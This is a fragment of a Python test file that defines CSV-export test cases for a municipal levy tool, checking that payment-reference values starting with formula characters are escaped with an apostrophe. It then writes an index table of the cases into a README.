                  _export("=KU-{jahr}-{ags}-{umlage}", True, lambda ags: f"'=KU-2022-{ags}"), typst=True)]
    for label, first in (("plus", "+"), ("minus", "-"), ("at", "@"), ("tab", "\t"), ("cr", "\r")):
        shown = {"\t": "tab", "\r": "CR"}.get(first, f"`{first}`")
        cases.append(Case(f"export/kassenzeichen-{label}", "export", f"Kassenzeichen pattern beginning with {shown}",
                          "notices OUT (Abschlaege.csv)", 0, "(none: the CSV field begins with ')", R_CSV,
                          _export(first + "KU-{jahr}-{ags}-{umlage}", False,
                                  lambda ags, first=first: f"'{first}KU-2022-{ags}"), typst=True))
    return cases


# -------------------------------------------------------------------------------------------------- the table

CASES: list[Case] = manifest_cases() + register_cases() + year_cases() + earlier_cases() + template_cases() + export_cases()
assert len({case.id for case in CASES}) == len(CASES), "case ids are unique"


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def index_table() -> str:
    """The corpus index (tests/corpus-artefacts/README.md): one row per case."""
    rows = ["| id | artefact | tampering | command | exit | problem code | why |", "|---|---|---|---|---|---|---|"]
    rows += [f"| `{c.id}` | {c.artefact} | {_cell(c.tampering)} | `{_cell(c.command)}` | {c.exit} | `{_cell(c.code)}` | "
             f"{_cell(c.why)} |" for c in CASES]
    return "\n".join(rows) + "\n"


BEGIN, END = "<!-- cases: begin (python tests/artefact_cases.py --write) -->\n", "<!-- cases: end -->\n"


def write_index() -> None:
    text = INDEX.read_text(encoding="utf-8")
    start, stop = text.index(BEGIN) + len(BEGIN), text.index(END)
    INDEX.write_text(text[:start] + index_table() + text[stop:], encoding="utf-8")


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    if sys.argv[1:] == ["--write"]:
        write_index()
    else:
        print(index_table(), end="")
